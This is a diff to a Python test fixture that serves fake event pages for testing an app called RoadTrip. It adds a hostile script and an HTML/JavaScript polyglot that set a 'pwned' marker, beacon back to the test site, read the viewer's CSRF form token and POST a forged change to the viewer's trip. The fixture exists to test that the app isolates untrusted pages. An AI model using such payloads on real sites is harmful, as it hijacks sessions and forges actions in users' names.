@@ -10,7 +10,12 @@ than RoadTrip's, as real event pages are. It serves
 - `/deny`: a page sent with `X-Frame-Options: DENY` (browsers refuse to frame it);
 - `/deny/late`: the same, but while a test holds copies (`hold_copies()`), RoadTrip's own
   fetch of it (not a browser's) waits until `release_copies()`, so the test sees the book
-  before its copy exists.
+  before its copy exists;
+- `/hostile/script`: a script sent as `text/javascript` (`hostile_script`): wherever it runs it sets
+  the marker `pwned` (on its window, its top window and RoadTrip's localStorage), asks `/ran/<where it ran>` here
+  and changes the viewer's trip to `choose_path` with a form token from `/session/form-token`
+  (all before it ends: synchronous requests);
+- `/hostile/polyglot`: an HTML page (`text/html`) that is the same script too, read as JavaScript.
 
 It counts the requests per path, so a test can tell what the browser loaded.
 """
@@ -31,10 +36,37 @@ def page(title: str, body: str = "") -> bytes:
     ).encode()
 
 
+def hostile_script(site_url: str, choose_path: str) -> str:
+    """What a hostile event page does if RoadTrip lets it run at its origin, all of it before it
+    ends (synchronous requests), so that nothing is left to happen after its load: the markers,
+    then the trip changed with the viewer's own form token."""
+    return (
+        "(function () { var where = String(location.pathname); window.pwned = where;"
+        " try { window.top.pwned = where; } catch (e) {}"
+        " try { localStorage.setItem('pwned', where); } catch (e) {}"
+        f" try {{ new Image().src = '{site_url}/ran' + where; }} catch (e) {{}}"
+        " try { var token = new XMLHttpRequest(); token.open('GET', '/session/form-token', false); token.send();"
+        f"   var choose = new XMLHttpRequest(); choose.open('POST', '{choose_path}', false);"
+        "   choose.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');"
+        "   choose.send('csrf=' + encodeURIComponent(JSON.parse(token.responseText).csrf)); } catch (e) {} })();"
+    )
+
+
+def polyglot(script: str) -> bytes:
+    """An HTML page that is also that script: to JavaScript `<!--` starts a comment to the end
+    of the line (and the `//` ends the second), to HTML the first line's comment ends at `-->`."""
+    return (
+        "<!-- --><!doctype html><html><head><meta charset=utf-8><title>Polyglot</title></head><body><h1>Polyglot</h1>"
+        f"<script>{script}</script><p>\n{script} // </p></body></html>"
+    ).encode()
+
+
 class EventSite:
     def __init__(self) -> None:
         self.requests: Counter[str] = Counter()
         self.hanging = True
+        # Where the hostile pages try to move the viewer's trip (a test sets it).
+        self.choose_path = "/destinations/1/choose"
         self._release = threading.Event()
         self._copies = threading.Event()
         self._copies.set()  # the site is shared by the session's tests: nothing held unless asked
@@ -48,6 +80,7 @@ class EventSite:
                 path = self.path.split("?", 1)[0]
                 site.requests[path] += 1
                 headers = {}
+                content_type = "text/html; charset=utf-8"
                 if path == "/event/1":
                     body = page("Event 1", '<p>The first event.</p><p><a id="more" href="/event/1/more">More about event 1</a></p>'
                                 '<p><a id="next" href="/event/3">On to event 3</a></p>')
@@ -75,6 +108,17 @@ class EventSite:
                         site._copies.wait(30)
                     body = page("Not in a frame, at last")
                     headers["X-Frame-Options"] = "DENY"
+                elif path.startswith("/hostile/"):
+                    script = hostile_script(site.url, site.choose_path)
+                    if path == "/hostile/script":
+                        body, content_type = script.encode(), "text/javascript"
+                    elif path == "/hostile/polyglot":
+                        body = polyglot(script)
+                    else:
+                        self.send_error(404)
+                        return
+                elif path.startswith("/ran/"):
+                    body = b""
                 elif path == "/deny":
                     body = page("Not in a frame")
                     headers["X-Frame-Options"] = "DENY"
@@ -82,7 +126,7 @@ class EventSite:
                     self.send_error(404)
                     return
                 self.send_response(200)
-                self.send_header("Content-Type", "text/html; charset=utf-8")
+                self.send_header("Content-Type", content_type)
                 self.send_header("Content-Length", str(len(body)))
                 self.send_header("Cache-Control", "no-store")
                 for name, value in headers.items():
